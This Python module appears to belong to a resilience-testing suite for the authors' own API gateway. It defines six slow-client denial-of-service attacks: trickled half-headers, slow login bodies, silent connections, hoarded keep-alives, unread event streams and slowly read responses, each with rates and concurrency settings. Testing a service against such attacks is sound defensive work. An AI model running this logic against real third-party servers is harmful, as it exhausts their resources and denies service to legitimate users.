"""Clients that hold what they opened: half requests, silence, streams that are not read."""

import asyncio

from ..attacker import Attack, Attacker, request

__all__ = ["SLOW_CLIENTS"]


async def _trickled(attacker: Attacker, begun: bytes, byte: bytes) -> str:
    """Begin a request, and send one byte more of it each second until it is answered."""
    async with attacker.connected() as connection:
        connection.send(begun)
        for _ in range(35):
            connection.send(byte)
            if (status := await connection.status(1.0)) != "no answer":
                return status
        return "held"


class HalfHeads(Attack):
    """Half a head, then one byte a second: 450 of one address used up the files, and honest clients got no answer."""

    per_second = 20
    at_once = 800
    seconds = 40

    async def attempt(self, attacker: Attacker) -> str:
        return await _trickled(attacker, b"GET /api/v1/prices HTTP/1.1\r\nHost: gateway\r\nX: ", b"x")


class SlowLoginBody(Attack):
    """The body of a log-in, one byte a second: each holds a request, a buffer and a deadline."""

    per_second = 6
    at_once = 300
    seconds = 40

    async def attempt(self, attacker: Attacker) -> str:
        begun = (
            b"POST /api/v1/persons/login HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n"
            b"Content-Length: 4000\r\n\r\n{"
        )
        return await _trickled(attacker, begun, b" ")


class SilentConnections(Attack):
    """A connection that sends nothing."""

    per_second = 15
    at_once = 600
    seconds = 40

    async def attempt(self, attacker: Attacker) -> str:
        async with attacker.connected() as connection:
            return await connection.status(35)


class HoardedKeepAlive(Attack):
    """Connections kept open by a small request every few seconds, many from each address."""

    per_second = 10
    at_once = 500
    seconds = 60

    async def attempt(self, attacker: Attacker) -> str:
        async with attacker.connected() as connection:
            for _ in range(12):
                connection.send(request("/healthz"))
                if (status := await connection.status(5)) != "200":
                    return status
                await connection.drain(4)
            return "held"


class StalledStreams(Attack):
    """A stream of every tick that is never read: it is closed after a minute, and costs some kilobytes till then."""

    per_second = 3
    at_once = 200
    seconds = 120

    async def attempt(self, attacker: Attacker) -> str:
        async with attacker.connected(receive_buffer=2_048) as connection:
            connection.send(request("/sse/?timer=0&channels=btc_usd,eth_usd,BTC-PERPETUAL,ETH-PERPETUAL"))
            return await connection.until_closed(110)


class TrickledReads(Attack):
    """A long answer read a few bytes a second, so that it is never stalled and never done."""

    per_second = 2
    at_once = 80
    seconds = 60

    async def attempt(self, attacker: Attacker) -> str:
        async with attacker.connected(receive_buffer=2_048) as connection:
            connection.send(request("/api/v1/prices?ticker=btc_usd&limit=10000"))
            status = await connection.status()
            for _ in range(50):
                await asyncio.sleep(1)
                if not await connection.reader.read(100):
                    return "closed"
            return f"{status} held"


SLOW_CLIENTS = (HalfHeads, SlowLoginBody, SilentConnections, HoardedKeepAlive, StalledStreams, TrickledReads)
